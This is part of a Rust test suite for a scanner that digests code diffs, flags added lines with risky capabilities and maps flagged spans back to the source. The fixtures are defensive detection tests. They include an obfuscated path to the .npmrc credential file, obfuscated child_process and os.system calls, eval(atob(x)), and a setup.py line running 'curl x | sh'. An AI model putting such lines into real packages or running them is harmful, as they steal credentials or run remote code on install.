            "--- /dev/null\n+++ b/lib/util.js\n@@ -0,0 +1,4 @@\n{}",
            body(&[
                "const a = 1;",
                "const k = p.join(o['home' + 'dir'](), '.npm' + 'rc');",
                "const b = 2;",
                "module.exports = 'is' + 'number';",
            ])
        );
        let d = digest_of(text.as_bytes());
        let view = String::from_utf8(d.text.clone()).unwrap();
        assert_eq!(
            view,
            "--- /dev/null\n+++ b/lib/util.js\n@@\n@@ -0,0 +1,4 @@\n+const a = 1;\n+const k = p.join(o.homedir(), '.npmrc');\n+const b = 2;\n+module.exports = 'is' + 'number';\n"
        );
        let at = view.find("+const k").unwrap();
        let s = d.span_to_source(Span {
            start: at,
            end: at + 10,
        });
        assert_eq!(&text[s.start..s.end], "+const k =");
        // The folded line is shorter than the source line: a span inside
        // it stays inside that line, and the next line maps exactly.
        let at = view.find("+const b").unwrap();
        let s = d.span_to_source(Span {
            start: at,
            end: at + 8,
        });
        assert_eq!(&text[s.start..s.end], "+const b");
        assert!(is_capability(b"getattr(os, 'sys' 'tem')('id')"));
        assert!(is_capability(b"require('\\x63hild_process')"));
        assert!(!is_capability(b"x = 'sys' + 'tem prompt'"));
    }

    /// `span_to_source` bisects the runs; it must map every span exactly
    /// as a walk over all of them does (the walk it replaced), on a view of
    /// several files with headers, gaps and folded lines.
    #[test]
    fn span_to_source_maps_every_span_as_a_walk_over_the_runs_does() {
        let walk = |d: &Digest, span: Span| {
            let first = d
                .runs
                .iter()
                .find(|r| !r.header && r.at + r.len > span.start)
                .or_else(|| d.runs.iter().find(|r| r.at + r.len > span.start));
            let Some(r) = first else {
                return Span { start: 0, end: 0 };
            };
            let start = r.source + span.start.saturating_sub(r.at).min(r.len);
            let end = match d.runs.iter().rev().find(|r| r.at < span.end) {
                Some(r) => r.source + (span.end - r.at).min(r.len),
                None => start,
            };
            Span {
                start,
                end: end.max(start),
            }
        };
        let mut text = String::new();
        for (i, lines) in [
            &["a = 1", "import os", "x = os.environ['K']", "b = 2"][..],
            &["c = 1"],
            &[
                "const k = p.join(o['home' + 'dir'](), '.npm' + 'rc');",
                "d = 1",
            ],
            &[
                "e = 1",
                "f = 2",
                "g = 3",
                "h = 4",
                "i = 5",
                "j = 6",
                "os.system('id')",
            ],
        ]
        .iter()
        .enumerate()
        {
            text += &format!("--- /dev/null\n+++ b/m{i}.py\n@@ -0,0 +1,9 @@\n");
            text += &body(lines);
        }
        let d = digest_of(text.as_bytes());
        assert!(
            d.runs.iter().filter(|r| r.header).count() >= 3,
            "{:?}",
            d.runs
        );
        let n = d.text.len();
        for start in 0..=n + 2 {
            for end in start..=n + 2 {
                let span = Span { start, end };
                assert_eq!(d.span_to_source(span), walk(&d, span), "{span:?}");
            }
        }
    }

    #[test]
    fn only_added_lines_count_and_a_text_without_capabilities_has_an_empty_view() {
        let diff = "--- a/m.py\n+++ b/m.py\n@@ -1,3 +1,3 @@\n import subprocess\n-subprocess.run(x)\n+print(x)\n";
        assert!(digest_of(diff.as_bytes()).text.is_empty());
        let clean = format!(
            "--- /dev/null\n+++ b/m.py\n@@ -0,0 +1,2 @@\n{}",
            body(&["a = 1", "b = 2"])
        );
        let d = digest_of(clean.as_bytes());
        assert!(d.text.is_empty());
        assert_eq!(
            d.span_to_source(Span { start: 0, end: 0 }),
            Span { start: 0, end: 0 }
        );
        // A plain text (no sections) is code.
        assert!(!digest_of(b"+eval(atob(x))\n").text.is_empty());
    }

    /// Sections digested on several cores and joined give the view one
    /// pass gives, whatever the pieces: files as pieces (the parallel
    /// path), cut mid-line, and texts that open with no header.
    #[test]
    fn the_view_built_in_parallel_is_the_view_built_in_one_pass() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(17);
        let lines = [
            "import os",
            "x = os.environ['K']",
            "y = 1",
            "o['home' + 'dir']()",
            "",
            "print('ok')",
            "subprocess.run(cmd)",
        ];
        let mut parallel = 0;
        for round in 0..20 {
            let mut sections = Vec::new();
            if round % 3 == 0 {
                sections.push("+eval(x)\n+plain\n".to_string());
            }
            for f in 0..rng.random_range(1..800) {
                let ext = ["py", "md", "js"][rng.random_range(0..3)];
                let mut s = format!("--- /dev/null\n+++ b/pkg/f{f}.{ext}\n@@ -0,0 +1,9 @@\n");
                for _ in 0..rng.random_range(0..60) {
                    s.push_str(&format!("+{}\n", lines[rng.random_range(0..lines.len())]));
                }
                if rng.random_range(0..10) == 0 {
                    s = format!("Binary files /dev/null and b/pkg/b{f}.bin differ\n{s}");
                }
                sections.push(s);
            }
            let whole = sections.concat();
            parallel += usize::from(whole.len() >= 256 << 10);
            let one = digest_one_pass(std::iter::once((0, whole.as_bytes())));
            let mut at = 0;
            let pieces: Vec<(usize, &[u8])> = sections
                .iter()
                .map(|s| {
                    let p = (at, s.as_bytes());
                    at += s.len();
                    p
                })
                .collect();
            assert_eq!(digest(pieces.iter().copied()), one, "round {round}");
            // Pieces cut anywhere, lines straddling them.
            let cut = rng.random_range(1..whole.len());
            let (a, b) = whole.as_bytes().split_at(cut);
            assert_eq!(digest([(0, a), (cut, b)].into_iter()), one, "cut at {cut}");
        }
        assert!(parallel >= 5, "texts large enough to be cut: {parallel}");
    }

    #[test]
    fn lines_cut_across_pieces_give_the_same_view() {
        let text = format!(
            "--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1,6 @@\n{}",
            body(&[
                "from setuptools import setup",
                "import os",
                "os.system('curl x | sh')",
                "setup()",
                "a",
                "b"
            ])
        );
        let whole = digest_of(text.as_bytes());
        for cut in [1, 7, 20, 40, 60, text.len() - 1] {
            let (a, b) = text.as_bytes().split_at(cut);
            let split = digest([(0, a), (cut, b)].into_iter());
            assert_eq!(split, whole, "cut at {cut}");
        }
    }
}
